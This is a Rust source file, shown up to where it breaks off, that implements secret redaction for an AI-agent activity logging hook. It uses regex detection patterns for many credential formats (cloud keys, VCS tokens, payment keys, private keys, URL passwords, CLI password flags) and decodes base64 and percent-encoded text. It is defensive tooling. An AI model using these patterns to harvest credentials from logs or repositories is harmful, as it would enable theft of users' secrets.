//! Secret redaction: every string the hook stores passes through [`Redactor`] before it is
//! written, so no secret reaches the journal, the relay or a backend. Redaction is for storage
//! only: the security analysis (scope, policy, enforce) reads the raw payload first (see
//! `enrich`), so nothing redaction removes is hidden from it.
//!
//! How it works: one keyword pass ([`KeywordSet`]) finds the rules whose keyword occurs in the
//! text, and only those rules' regexes are compiled (once per process) and run over the
//! *original* text. Each match gives a span (the secret part of it); overlapping spans are
//! merged (the earlier rule names the kind), and the spans are replaced by `[REDACTED:<kind>]`.
//! Because spans are found on the original, a string can be redacted *before* it is capped
//! ([`Redactor::redact_capped`]): a secret that starts before the cap is removed whole, however
//! far it reaches past it.
//!
//! Every pattern is bounded: it matches the secret's own alphabet and length, never "the rest of
//! the input" (an unterminated PEM block redacts its header and base64 body lines only).

use super::keywords::{KeywordSet, KeywordTable};
use regex_lite::Regex;
use std::sync::OnceLock;

/// A kind of secret: keywords (one must occur, case-insensitively, for the pattern to be tried)
/// and the pattern.
pub struct SecretRule {
    pub kind: &'static str,
    pub keywords: &'static [&'static str],
    pub pattern: &'static str,
    /// Capture group holding the secret itself (or, if it did not take part, the first later
    /// one that did); the rest of the match is kept (0 = all).
    pub secret_group: usize,
    /// Generic rules (a secret found by its key name, not its shape): placeholders such as
    /// `$VAR`, `true` or numbers are left alone.
    pub generic: bool,
    /// What every match has right after a keyword's occurrence, tested on the text after it:
    /// the rule is tried only when some occurrence passes (its regex is costly to build, and
    /// its keywords are common words).
    pub after_keyword: Option<fn(&[u8]) -> bool>,
}

const fn r(kind: &'static str, keywords: &'static [&'static str], pattern: &'static str) -> SecretRule {
    SecretRule { kind, keywords, pattern, secret_group: 0, generic: false, after_keyword: None }
}
const fn g(kind: &'static str, keywords: &'static [&'static str], pattern: &'static str, group: usize) -> SecretRule {
    SecretRule { kind, keywords, pattern, secret_group: group, generic: false, after_keyword: None }
}
const fn generic(
    kind: &'static str,
    keywords: &'static [&'static str],
    pattern: &'static str,
    group: usize,
) -> SecretRule {
    SecretRule { kind, keywords, pattern, secret_group: group, generic: true, after_keyword: None }
}

/// A key name's rest (`[A-Za-z0-9_.-]*`), an optional quote, spaces, then `:` or `=`: what
/// follows the name in every `password_assignment` match (`token_usage` and `author` are not
/// assignments).
fn assignment_follows(after: &[u8]) -> bool {
    let mut i = after.iter().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'-')).count();
    if matches!(after.get(i), Some(b'"' | b'\'')) {
        i += 1;
    }
    // The regex's `\s`: ASCII whitespace, vertical tab included.
    i += after[i..].iter().take_while(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'\x0b' | b'\x0c')).count();
    matches!(after.get(i), Some(b':' | b'='))
}

/// The key names the generic assignment rules look for, spelled as the prefilter needs them
/// (the regexes' alternatives, optional separators included: `AccessKey`).
const PASSWORD_KEYWORDS: &[&str] = &[
    "passw",
    "pwd",
    "secret",
    "token",
    "apikey",
    "api_key",
    "api-key",
    "accesskey",
    "access_key",
    "access-key",
    "privatekey",
    "private_key",
    "private-key",
    "credential",
    "auth",
];

/// The secrets we recognise. Order matters only for naming: where spans of two rules overlap,
/// the earlier rule names the merged span (specific shapes first, generic key-name rules last).
pub const RULES: &[SecretRule] = &[
    // --- private keys -------------------------------------------------------------------
    // Header, then only base64 lines or the few PEM header lines, then END if present. A line
    // that is anything else (a command after a fake header) ends the block and is kept.
    r(
        "private_key",
        &["-----begin"],
        r"(?m)-----BEGIN[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----(?:[ \t]+[A-Za-z0-9+/=]{16,})*(?:\r?\n[ \t]*(?:[A-Za-z0-9+/=]+|(?:Proc-Type|DEK-Info|Comment|Version|Hash|Charset): [^\r\n]*)?\r?$)*(?:(?:\\r)?\\n(?:[A-Za-z0-9+/=]+|(?:Proc-Type|DEK-Info|Comment|Version|Hash|Charset): [^\\\r\n]*))*(?:(?:\r?\n|(?:\\r)?\\n|[ \t]+)-----END[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----)?",
    ),
    r("age_secret_key", &["age-secret-key-1"], r"AGE-SECRET-KEY-1[0-9A-Z]{58}"),
    g("putty_private_key", &["private-lines:"], r"(Private-Lines: *\d+)((?:\r?\n[A-Za-z0-9+/=]+)+)", 2),
    // --- cloud providers ----------------------------------------------------------------
    r(
        "aws_access_key_id",
        &["akia", "asia", "agpa", "aida", "aroa", "aipa", "anpa", "anva", "a3t"],
        r"\b(?:AKIA|ASIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|A3T[A-Z0-9])[A-Z0-9]{16}\b",
    ),
    // `KEY=v`, `"key": "v"` and `aws configure set aws_secret_access_key v` (space).
    g(
        "aws_secret_access_key",
        // Every match holds `secret` (the key's separators are optional: keywords must cover all).
        &["secret"],
        r#"(?i)((?:aws_?)?secret_?-?access_?-?key["']?(?:\s*[:=]\s*|\s+)["']?)([A-Za-z0-9/+=]{40})\b"#,
        2,
    ),
    g(
        "aws_session_token",
        &["session_token", "sessiontoken", "security_token", "securitytoken"],
        r#"(?i)((?:aws_?)?(?:session|security)_?token["']?(?:\s*[:=]\s*|\s+)["']?)([A-Za-z0-9/+=]{100,})"#,
        2,
    ),
    r("gcp_oauth_client_secret", &["gocspx-"], r"GOCSPX-[A-Za-z0-9_-]{28}"),
    r("google_oauth_token", &["ya29.", "1//0"], r"\bya29\.[0-9A-Za-z_-]{20,}|\b1//0[0-9A-Za-z_-]{40,}"),
    r("google_api_key", &["aiza"], r"AIza[0-9A-Za-z_-]{35}"),
    g(
        "azure_storage_key",
        &["accountkey=", "sharedaccesskey="],
        r"(?i)((?:AccountKey|SharedAccessKey)=)([A-Za-z0-9+/=]{20,})",
        2,
    ),
    r("azure_client_secret", &["q~"], r"\b[A-Za-z0-9_~.-]{3}\dQ~[A-Za-z0-9_~.-]{31,34}"),
    r("digitalocean_token", &["dop_v1_", "doo_v1_", "dor_v1_"], r"\bdo[opr]_v1_[a-f0-9]{64}\b"),
    r("heroku_api_key", &["hrku-"], r"\bHRKU-[A-Za-z0-9_-]{60}"),
    r(
        "hashicorp_token",
        &["hvs.", "hvb.", "atlasv1"],
        r"\bhv[sb]\.[A-Za-z0-9_-]{24,}|\b[A-Za-z0-9]{14}\.atlasv1\.[A-Za-z0-9_-]{60,}",
    ),
    // --- VCS and CI ---------------------------------------------------------------------
    r("github_token", &["ghp_", "gho_", "ghu_", "ghs_", "ghr_"], r"\bgh[pousr]_[A-Za-z0-9]{30,255}\b"),
    r("github_fine_grained_token", &["github_pat_"], r"\bgithub_pat_[A-Za-z0-9_]{22,255}\b"),
    r(
        "gitlab_token",
        &["glpat-", "gldt-", "glrt-", "glptt-", "glcbt-", "glft-", "glsoat-", "gr1348941"],
        r"\b(?:glpat|gldt|glrt|glptt|glcbt|glft|glsoat)-[A-Za-z0-9_-]{20,}|\bGR1348941[A-Za-z0-9_-]{20,}",
    ),
    r("bitbucket_token", &["atbb"], r"\bATBB[A-Za-z0-9_=.-]{32,}"),
    r("atlassian_token", &["atatt3"], r"\bATATT3[A-Za-z0-9_=-]{60,}"),
    r("circleci_token", &["ccipat_"], r"\bCCIPAT_[A-Za-z0-9]{20,}_[a-f0-9]{40}\b"),
    r("linear_api_key", &["lin_api_"], r"\blin_api_[A-Za-z0-9]{40}\b"),
    // --- chat and webhooks --------------------------------------------------------------
    r(
        "slack_token",
        &["xoxa-", "xoxb-", "xoxp-", "xoxr-", "xoxs-", "xoxo-", "xoxe"],
        r"\bxox(?:[abposr]|e(?:\.xox[bp])?-\d)-[A-Za-z0-9-]{10,}",
    ),
    r(
        "slack_webhook",
        &["hooks.slack.com"],
        r"https://hooks\.slack\.com/(?:services|workflows|triggers)/[A-Za-z0-9/_-]+",
    ),
    r(
        "discord_webhook",
        &["/api/webhooks/"],
        r"https://(?:canary\.|ptb\.)?discord(?:app)?\.com/api/webhooks/\d+/[A-Za-z0-9_-]+",
    ),
    r(
        "teams_webhook",
        &["webhook.office.com"],
        r#"https://[A-Za-z0-9.-]*webhook\.office\.com/webhook[A-Za-z0-9]*/[^\s"'<>]+"#,
    ),
    r("telegram_bot_token", &[":aa"], r"\d{8,10}:AA[A-Za-z0-9_-]{33}\b"),
    // `SK` and a hex digit (not `sk` alone: it is in every `task`, `disk` and `--skip`).
    r(
        "twilio_api_key",
        &[
            "sk0", "sk1", "sk2", "sk3", "sk4", "sk5", "sk6", "sk7", "sk8", "sk9", "ska", "skb", "skc", "skd", "ske",
            "skf",
        ],
        r"\bSK[0-9a-f]{32}\b",
    ),
    r("sendgrid_api_key", &["sg."], r"\bSG\.[A-Za-z0-9_-]{22}\.[A-Za-z0-9_-]{43}\b"),
    r("mailgun_api_key", &["key-"], r"\bkey-[0-9a-f]{32}\b"),
    // --- payment ------------------------------------------------------------------------
    r(
        "stripe_key",
        &["sk_live_", "rk_live_", "sk_test_", "rk_test_", "pk_live_"],
        r"\b[rs]k_(?:live|test)_[0-9A-Za-z]{16,}",
    ),
    r("stripe_webhook_secret", &["whsec_"], r"\bwhsec_[A-Za-z0-9+/=]{24,}"),
    r("square_token", &["sq0atp-", "sq0csp-", "eaaa"], r"\bsq0(?:atp|csp)-[A-Za-z0-9_-]{22,}|\bEAAA[A-Za-z0-9_-]{60}"),
    r("braintree_token", &["access_token$production$"], r"access_token\$production\$[a-z0-9]{16}\$[a-f0-9]{32}"),
    r("shopify_token", &["shpat_", "shpca_", "shppa_", "shpss_"], r"\bshp(?:at|ca|pa|ss)_[a-fA-F0-9]{32}\b"),
    // --- AI providers -------------------------------------------------------------------
    r("anthropic_api_key", &["sk-ant-"], r"\bsk-ant-[A-Za-z0-9_-]{16,}"),
    r("openai_api_key", &["sk-"], r"\bsk-(?:proj-|svcacct-|admin-)?[A-Za-z0-9_-]{20,}"),
    r("huggingface_token", &["hf_"], r"\bhf_[A-Za-z]{34}\b"),
    r("groq_api_key", &["gsk_"], r"\bgsk_[A-Za-z0-9]{52}\b"),
    r("replicate_token", &["r8_"], r"\br8_[A-Za-z0-9]{37}\b"),
    r("xai_api_key", &["xai-"], r"\bxai-[A-Za-z0-9]{70,}\b"),
    // --- package registries -------------------------------------------------------------
    r("npm_token", &["npm_"], r"\bnpm_[A-Za-z0-9]{36}\b"),
    r("pypi_token", &["pypi-"], r"\bpypi-AgE[A-Za-z0-9_-]{50,}"),
    r("rubygems_token", &["rubygems_"], r"\brubygems_[0-9a-f]{48}\b"),
    r("dockerhub_token", &["dckr_pat_"], r"\bdckr_pat_[A-Za-z0-9_-]{27,}"),
    r("nuget_api_key", &["oy2"], r"\boy2[a-z0-9]{43}\b"),
    r("crates_io_token", &["cio"], r"\bcio[A-Za-z0-9]{32}\b"),
    // --- tokens in general --------------------------------------------------------------
    r("jwt", &["eyj"], r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}"),
    // --- databases and connection strings -----------------------------------------------
    // `scheme://[user]:password@host`: the password runs to the *last* `@` before the host, so
    // a password containing `@` is removed whole (`redis://:PW@h`, `https://u:p@ss@h`).
    // The user part may hold an `@` too (`https://me@corp.com:PW@host`).
    g("url_password", &["://"], r"([A-Za-z][A-Za-z0-9+.-]*://[^/\s:]*:)([^\s/]+)(@[^\s@/?#]+)", 2),
    // A signature or key carried in a URL's query string: presigned S3/GCS URLs
    // (`X-Amz-Signature=`, `X-Goog-Signature=`), Azure SAS (`&sig=`), `?access_token=`, `?key=`.
    generic(
        "url_query_secret",
        &["sig=", "signature=", "token=", "key=", "secret=", "password=", "passwd=", "pwd=", "credential=", "auth="],
        r#"(?i)([?&](?:[A-Za-z0-9._-]*[_-])?(?:sig|signature|token|key|apikey|secret|password|passwd|pwd|credential|auth)=)([^&#\s"'<>]{6,})"#,
        2,
    ),
    // `Cookie:` / `Set-Cookie:` headers (the whole value), and curl's `-b`/`--cookie NAME=VALUE`
    // (a value without `=` is a cookie file's name, kept).
    generic("cookie", &["cookie"], r#"(?i)(\b(?:set-)?cookie\s*:\s*)([^\r\n"'\\]{4,})"#, 2),
    generic(
        "cookie",
        &["curl"],
        r#"((?:^|\s)curl\b[^\n|;&]*?\s(?:-b|--cookie)(?:\s+|=)["']?)([^\s"'=;]+=[^\s"';]*(?:;\s*[^\s"'=;]+=[^\s"';]*)*)"#,
        2,
    ),
    // `mysql -pPW`, `mysql -p'PW'`, `mysqldump --password PW`, `sshpass -p PW`, `redis-cli -a PW`.
    g(
        "db_cli_password",
        &["mysql", "mariadb", "sshpass", "redis-cli", "mongo", "sqlcmd"],
        r#"((?:\b(?:mysql|mysqldump|mysqladmin|mysqlimport|mariadb|mariadb-dump)\b[^\n|;&]*?\s-p|\bsshpass\s+-p\s*|\bredis-cli\b[^\n|;&]*?\s-a\s+|\b(?:mongo|mongosh|mongodump|mongorestore)\b[^\n|;&]*?\s-p\s+|\bsqlcmd\b[^\n|;&]*?\s-P\s*))(["']?)([^\s"']+)"#,
        3,
    ),
    // `curl -u admin:PW`, `--user admin:PW`, `--proxy-user u:PW`.
    // Keywords with the whitespace the regex requires before the flag (`\n` also stands for the
    // start of the text): a bare `-u` is in every transcript path of a `/home/user` project.
    g(
        "basic_auth",
        &[
            " -u",
            "\t-u",
            "\n-u",
            "\r-u",
            "\x0b-u",
            "\x0c-u",
            " --user",
            "\t--user",
            "\n--user",
            "\r--user",
            "\x0b--user",
            "\x0c--user",
            " --proxy-user",
            "\t--proxy-user",
            "\n--proxy-user",
            "\r--proxy-user",
            "\x0b--proxy-user",
            "\x0c--proxy-user",
        ],
        r#"((?:^|\s)(?:-u|--user|--proxy-user|-U)(?:\s+|=)?["']?[^\s:'"]+:)([^\s'"/][^\s'"]*)"#,
        2,
    ),
    g("basic_auth_header", &["basic"], r"(?i)(\bbasic\s+)([A-Za-z0-9+/]{8,}={0,2})", 2),
    // Keywords with the whitespace the regex requires after the word (`token` alone is in
    // `token_usage`, `tokens`, `input_tokens`).
    g(
        "bearer_token",
        &[
            "bearer ",
            "bearer\t",
            "bearer\n",
            "bearer\r",
            "bearer\x0b",
            "bearer\x0c",
            "token ",
            "token\t",
            "token\n",
            "token\r",
            "token\x0b",
            "token\x0c",
        ],
        r"(?i)((?:\bbearer|\btoken)\s+)([A-Za-z0-9._~+/=-]{16,})",
        2,
    ),
    generic(
        "cli_flag_secret",
        &[
            "--password",
            "--passwd",
            "--token",
            "--api-key",
            "--apikey",
            "--secret",
            "--client-secret",
            "--access-token",
            "--auth-token",
        ],
        r#"(?i)(--(?:password|passwd|token|api-?key|secret|client-secret|access-token|auth-token)(?:=|\s+)["']?)([^\s"'-][^\s"']{3,})"#,
        2,
    ),
    // `KEY=v`, `key: v`, `"key": "v"` for key names that say secret. The value may not start
    // with `:` (`auth::tests`, `token::Kind` are Rust paths, not assignments).
    SecretRule {
        after_keyword: Some(assignment_follows),
        ..generic(
            "password_assignment",
            // The regex's alternatives spelled out, optional separators included (`AccessKey`): the
            // prefilter must let through everything the regex can match (the fuzzer found that
            // `access_key` alone missed `AccessKey`).
            PASSWORD_KEYWORDS,
            // Quoted, the value runs to its closing quote, spaces and `&;,` included (`export
            // PGPASSWORD='p@ss w0rd;x'`, `"password": "correct horse battery"`): groups 2 and 3;
            // unquoted, group 4 (one regex: the key part is compiled once).
            r#"(?i)(\b[A-Za-z0-9_.-]*(?:password|passwd|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credentials?|auth)[A-Za-z0-9_.-]*["']?\s*(?::=|[=:])\s*)(?:'([^'\n]{4,256})'|"([^"\n]{4,256})"|["']?([^\s"'&;,)}\]:][^\s"'&;,)}\]]{3,}))"#,
            2,
        )
    },
];

/// `[REDACTED:kind]`: what we wrote, never a secret (redacting twice changes nothing).
fn is_marker(s: &str) -> bool {
    s.strip_prefix("[REDACTED:")
        .and_then(|r| r.strip_suffix(']'))
        .is_some_and(|k| k.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'))
}

/// The kind of a value removed because its JSON key names a secret (`"api_key": "…"`).
pub const SECRET_FIELD_KIND: &str = "secret_field";

/// Whether a JSON key names a secret, so that its string value is one whatever its shape
/// (`{"api_key": "abc123"}` at any depth, an unknown top-level key included): the key ends with
/// a secret's name (`_`/`-`/case ignored), or with it and `s`, `value` or `key`. Keys naming a
/// kind, a count, a file or an id of a secret are not (`token_type`, `password_file`,
/// `secret_id`, `signing`).
pub fn secret_key(key: &str) -> bool {
    if key.len() > 64 {
        return false;
    }
    let k: String = key.bytes().filter(u8::is_ascii_alphanumeric).map(|b| b.to_ascii_lowercase() as char).collect();
    const NAMES: &[&str] = &[
        "password",
        "passwd",
        "passphrase",
        "secret",
        "token",
        "apikey",
        "accesskey",
        "privatekey",
        "credential",
        "authorization",
        "cookie",
        "sig",
        "signature",
    ];
    ["", "s", "value", "key"]
        .iter()
        .any(|tail| k.strip_suffix(tail).is_some_and(|head| NAMES.iter().any(|n| head.ends_with(n))))
}

/// Whether a string under a secret-named key is left alone (placeholders, booleans, numbers).
pub fn not_a_secret_value(value: &str) -> bool {
    value.chars().count() < 4 || is_not_a_secret(value) || is_marker(value)
}

/// Values the generic rules leave alone: they are not secrets.
fn is_not_a_secret(value: &str) -> bool {
    value.starts_with("[REDACTED")
        || value.starts_with('$')
        || value.starts_with('<')
        // A path (`password_file: /run/secrets/db`): where a secret is, not the secret.
        || ((value.starts_with('/') || value.starts_with("~/") || value.starts_with("./"))
            && value[1..].contains('/')
            && !value.contains(char::is_whitespace))
        || value.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        || value.bytes().all(|b| b == b'*' || b == b'x' || b == b'X')
        || matches!(
            value.to_ascii_lowercase().as_str(),
            "true" | "false" | "null" | "none" | "undefined" | "required" | "optional" | "string" | "changeme"
                // `Authorization: Bearer $TOKEN`: the scheme, not the credential.
                | "bearer" | "basic" | "digest" | "negotiate" | "token"
        )
}

/// Each rule's regex, compiled when a text first needs it.
static REGEXES: [OnceLock<Regex>; RULES.len()] = [const { OnceLock::new() }; RULES.len()];

fn regex(i: usize) -> &'static Regex {
    REGEXES[i].get_or_init(|| Regex::new(RULES[i].pattern).expect("static pattern"))
}

/// Every rule's keywords, one after another, and their total length.
const KEYWORD_COUNT: usize = {
    let (mut n, mut i) = (0, 0);
    while i < RULES.len() {
        n += RULES[i].keywords.len();
        i += 1;
    }
    n
};
const KEYWORD_BYTES: usize = {
    let (mut n, mut i) = (0, 0);
    while i < KEYWORD_COUNT {
        n += KEYWORDS[i].len();
        i += 1;
    }
    n
};
const KEYWORDS: [&str; KEYWORD_COUNT] = flat_keywords().0;
/// For each keyword of the prefilter, the rule it belongs to.
const KEYWORD_RULE: [usize; KEYWORD_COUNT] = flat_keywords().1;

const fn flat_keywords() -> ([&'static str; KEYWORD_COUNT], [usize; KEYWORD_COUNT]) {
    let mut words = [""; KEYWORD_COUNT];
    let mut rule = [0; KEYWORD_COUNT];
    let (mut at, mut i) = (0, 0);
    while i < RULES.len() {
        let mut j = 0;
        while j < RULES[i].keywords.len() {
            words[at] = RULES[i].keywords[j];
            rule[at] = i;
            at += 1;
            j += 1;
        }
        i += 1;
    }
    (words, rule)
}

/// The rules' keyword prefilter, made at compile time.
static PREFILTER_TABLE: KeywordTable<KEYWORD_COUNT, KEYWORD_BYTES> = KeywordTable::build(&KEYWORDS);
static PREFILTER: KeywordSet = PREFILTER_TABLE.set();

/// Which rules the keyword prefilter lets through for `text` (exposed so tests can prove the
/// prefilter is a superset of every rule's matches on its examples).
pub fn candidates(text: &str) -> Vec<bool> {
    candidate_rules(text).to_vec()
}

fn candidate_rules(text: &str) -> [bool; RULES.len()] {
    let mut out = [false; RULES.len()];
    let t = text.as_bytes();
    PREFILTER.find_ends(text, |k, end| {
        let r = KEYWORD_RULE[k];
        if !out[r] && RULES[r].after_keyword.is_none_or(|f| f(&t[end..])) {
            out[r] = true;
        }
    });
    out
}

/// Whether rule `i` matches `text` with the prefilter bypassed (for the superset tests).
pub fn matches_unfiltered(i: usize, text: &str) -> bool {
    regex(i).is_match(text)
}

/// The secret spans in `text`: (start, end, kind), sorted, overlaps merged. Besides the rules,
/// encoded text is decoded and tested (see [`encoded_spans`]).
pub(crate) fn spans(text: &str) -> Vec<(usize, usize, &'static str)> {
    let mut found = rule_spans(text);
    // `__` joins names (`mcp__server__tool`): a token after it has no word boundary before it,
    // so each piece is also searched on its own.
    if text.contains("__") {
        let mut at = 0;
        for piece in text.split("__") {
            if !piece.is_empty() {
                found.extend(rule_spans(piece).into_iter().map(|(s, e, i)| (at + s, at + e, i)));
            }
            at += piece.len() + 2;
        }
    }
    encoded_spans(text, &mut found);
    merge(text, found)
}

/// The kind of a run of encoded text (base64 or percent-encoding) that decodes to a secret.
pub const ENCODED_KIND: &str = "encoded_secret";
/// Runs shorter than this cannot hold a token worth decoding (the shortest rules' secrets
/// encode to at least this).
const ENCODED_MIN: usize = 20;
/// Longer runs are content (an embedded file), not a token: not decoded.
const ENCODED_MAX: usize = 16 * 1024;

/// Runs of base64 (standard or URL-safe, padded or not) and of percent-encoded text that decode
/// to something a rule recognises: the whole run is the secret (`echo Z2hwX…= | base64 -d`,
/// `?aws_secret_access_key%3DwJal…%2F…`). One linear scan; a run is decoded only if it is long
/// enough and base64 only when it decodes to printable text.
fn encoded_spans(text: &str, found: &mut Vec<(usize, usize, usize)>) {
    let b = text.as_bytes();
    if b.len() < ENCODED_MIN {
        return;
    }
    let b64 = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_');
    let mut i = 0;
    while i < b.len() {
        if !b64(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && b64(b[i]) {
            i += 1;
        }
        let mut end = i;
        while end < b.len() && end - i < 2 && b[end] == b'=' {
            end += 1;
        }
        let run = &b[start..i];
        if (ENCODED_MIN..=ENCODED_MAX).contains(&run.len()) && !already_covered(found, start, end) {
            if let Some(decoded) = crate::text::base64_decode(run).and_then(printable) {
                if !rule_spans(&decoded).is_empty() {
                    found.push((start, end, RULES.len()));
                }
            }
        }
        i = end.max(i);
    }
    if !text.contains('%') {
        return;
    }
    let pct = |c: u8| c.is_ascii_alphanumeric() || b"%+/=_.~-:@".contains(&c);
    let mut i = 0;
    while i < b.len() {
        if !pct(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && pct(b[i]) {
            i += 1;
        }
        let run = &b[start..i];
        if (ENCODED_MIN..=ENCODED_MAX).contains(&run.len()) && run.contains(&b'%') && !already_covered(found, start, i)
        {
            if let Some(decoded) = percent_decode(run) {
                // More found decoded than as it is (a URL whose password the rules already see
                // is not redacted whole for it).
                let n = rule_spans(&decoded).len();
                if n > 0 && n > rule_spans(&text[start..i]).len() {
                    found.push((start, i, RULES.len()));
                }
            }
        }
    }
}

fn already_covered(found: &[(usize, usize, usize)], s: usize, e: usize) -> bool {
    found.iter().any(|(fs, fe, _)| *fs <= s && e <= *fe)
}

/// `%XX` decoded (and `+` as a space); `None` if nothing was encoded or the result is not text.
fn percent_decode(run: &[u8]) -> Option<String> {
    let hex = |c: u8| (c as char).to_digit(16);
    let mut out = Vec::with_capacity(run.len());
    let mut i = 0;
    let mut decoded = false;
    while i < run.len() {
        match (run[i], run.get(i + 1).and_then(|c| hex(*c)), run.get(i + 2).and_then(|c| hex(*c))) {
            (b'%', Some(h), Some(l)) => {
                out.push((h * 16 + l) as u8);
                i += 3;
                decoded = true;
            }
            (c, _, _) => {
                out.push(c);
                i += 1;
            }
        }
    }
    if !decoded {
        return None;
    }
    String::from_utf8(out).ok()
}

/// Decoded bytes as text when they are printable (a token, a `KEY=value`), else `None`.
fn printable(d: Vec<u8>) -> Option<String> {
    let ok = d.iter().all(|c| (0x20..0x7f).contains(c) || matches!(c, b'\n' | b'\r' | b'\t'));
    if ok {
        String::from_utf8(d).ok()
    } else {
        None
    }
}

/// The spans the rules find (rule index), unmerged.
fn rule_spans(text: &str) -> Vec<(usize, usize, usize)> {
    let cands = candidate_rules(text);
    let mut found: Vec<(usize, usize, usize)> = Vec::new();
    for (i, rule) in RULES.iter().enumerate() {
        if !cands[i] {
            continue;
        }
        let re = regex(i);
        if rule.secret_group == 0 {
            found.extend(
                re.find_iter(text).filter(|m| !m.is_empty() && !is_marker(m.as_str())).map(|m| (m.start(), m.end(), i)),
            );
            continue;
        }
        for caps in re.captures_iter(text) {
            // The secret is the first group at or after `secret_group` that took part (a rule
            // with alternatives puts each in its own group).
            let Some(m) = (rule.secret_group..caps.len()).find_map(|g| caps.get(g)) else { continue };
            if m.is_empty() || is_marker(m.as_str()) || (rule.generic && is_not_a_secret(m.as_str())) {
                continue;
            }
            found.push((m.start(), m.end(), i));
        }
    }
    found
}

/// Sorts and merges spans, dropping any that touch our own markers; names each merged span by
/// its earliest rule (the encoded kind last).
fn merge(text: &str, mut found: Vec<(usize, usize, usize)>) -> Vec<(usize, usize, &'static str)> {
    if found.is_empty() {
        return Vec::new();
    }
    // What we wrote before (`[REDACTED:kind]`) is never part of a secret: redacting twice
    // changes nothing (a URL whose user part is a marker is not a `user:password@`).
    if text.contains("[REDACTED:") {
        let markers: Vec<(usize, usize)> = text
            .match_indices("[REDACTED:")
            .filter_map(|(s, _)| text[s..].find(']').map(|e| (s, s + e + 1)))
            .filter(|(s, e)| is_marker(&text[*s..*e]))
            .collect();
        found.retain(|(s, e, _)| !markers.iter().any(|(ms, me)| s < me && ms < e));
    }
    found.sort_unstable();
    let mut merged: Vec<(usize, usize, usize)> = Vec::with_capacity(found.len());
    for (s, e, i) in found {
        match merged.last_mut() {
            Some(last) if s < last.1 => {
                last.1 = last.1.max(e);
                last.2 = last.2.min(i);
            }
            _ => merged.push((s, e, i)),
        }
    }
    merged.into_iter().map(|(s, e, i)| (s, e, RULES.get(i).map_or(ENCODED_KIND, |r| r.kind))).collect()
}

/// Names and values nearly every record holds (the record's and the payloads' field names, event
/// and tool names, levels and modes): none holds a secret (a test searches each), so no process
/// searches them again. Sorted.
const KNOWN_CLEAN: &[&str] = &[
    "Agent",
    "Bash",
    "Edit",
    "Elicitation",
    "ElicitationResult",
    "ExitPlanMode",
    "Glob",
    "Grep",
    "LS",
    "MessageDisplay",
    "MultiEdit",
    "NotebookEdit",
    "Notification",
    "PermissionRequest",
    "PostCompact",
    "PostToolBatch",
    "PostToolUse",
    "PostToolUseFailure",
    "PreCompact",
    "PreToolUse",
    "Read",
    "SessionEnd",
    "SessionStart",
    "Stop",
    "StopFailure",
    "SubagentStart",
    "SubagentStop",
    "Task",
    "TaskCompleted",
    "TaskCreated",
    "TodoWrite",
    "UserPromptExpansion",
    "UserPromptSubmit",
    "WebFetch",
    "WebSearch",
    "Write",
    "acceptEdits",
    "action",
    "action_details",
    "agentId",
    "agentType",
    "agent_context",
    "agent_group",
    "agent_id",
    "agent_role",
    "agent_transcript_path",
    "agent_type",
    "alert",
    "arguments",
    "async_launched",
    "background_tasks",
    "bashCount",
    "behaviour",
    "branch",
    "bypassPermissions",
    "bytes",
    "cache_creation",
    "cache_creation_input_tokens",
    "cache_read_input_tokens",
    "canContinueAgent",
    "canReadOutputFile",
    "category",
    "change",
    "claude_pid",
    "claude_version",
    "clear",
    "command",
    "command_context",
    "compact",
    "completed",
    "config_error",
    "content",
    "content_captured",
    "content_sha256",
    "context_tokens",
    "cost_usd",
    "count",
    "cpu_percent",
    "critical",
    "cwd",
    "decision",
    "default",
    "deny",
    "description",
    "detail",
    "detected_by",
    "diff",
    "duplicates",
    "duration_ms",
    "editFileCount",
    "effort",
    "end_unix_nano",
    "entrypoint",
    "ephemeral_1h_input_tokens",
    "ephemeral_5m_input_tokens",
    "error",
    "estimated_cache_write_usd",
    "event_type",
    "events",
    "events_lost",
    "excerpt",
    "fallback_credit",
    "fields",
    "file",
    "filePath",
    "file_path",
    "findings",
    "fleet_agent_id",
    "fleet_agent_type",
    "gap",
    "harnessNoteCount",
    "harnessSectionHash",
    "harnessTailCount",
    "hash",
    "high",
    "hook_event",
    "hook_event_name",
    "hook_input_error",
    "hook_us",
    "host_name",
    "hunks",
    "id",
    "inference_geo",
    "info",
    "input_error",
    "input_tokens",
    "instance_id",
    "interrupted",
    "isAsync",
    "isImage",
    "is_interrupt",
    "iterations",
    "key",
    "kind",
    "last_assistant_message",
    "last_seen",
    "level",
    "lines",
    "linesAdded",
    "linesRemoved",
    "lines_added",
    "lines_removed",
    "low",
    "matched",
    "mcp_server",
    "mcp_tool",
    "medium",
    "memory_mb",
    "message_id",
    "messages",
    "metadata",
    "model",
    "model_call",
    "namespace",
    "newLines",
    "newStart",
    "newString",
    "new_string",
    "noOutputExpected",
    "none",
    "numLines",
    "oldLines",
    "oldStart",
    "oldString",
    "old_string",
    "originalFile",
    "other",
    "otherToolCount",
    "outputFile",
    "output_tokens",
    "output_tokens_details",
    "outside_paths",
    "outside_project_scope",
    "parent_agent_id",
    "parent_session",
    "parent_tool_use_id",
    "path",
    "pattern",
    "permission_mode",
    "plan",
    "pointer",
    "prev_hash",
    "price_table",
    "project",
    "project_name",
    "project_path",
    "prompt",
    "prompt_cache_likely_expired",
    "prompt_id",
    "query",
    "raw_input",
    "readCount",
    "reason",
    "redaction_kinds",
    "redactions",
    "registry_entry",
    "registry_match",
    "replaceAll",
    "replace_all",
    "request_id",
    "resolvedModel",
    "resolved_path",
    "resource_usage",
    "response_model",
    "resume",
    "risk",
    "rule",
    "run_in_background",
    "scope",
    "searchCount",
    "search_path",
    "search_pattern",
    "seconds_since_last_response",
    "security",
    "sensitive_access",
    "seq",
    "seqs",
    "server_tool_use",
    "service_tier",
    "session_context",
    "session_crons",
    "session_id",
    "severity",
    "sha256",
    "silent_secs",
    "size_bytes",
    "slash_command",
    "source",
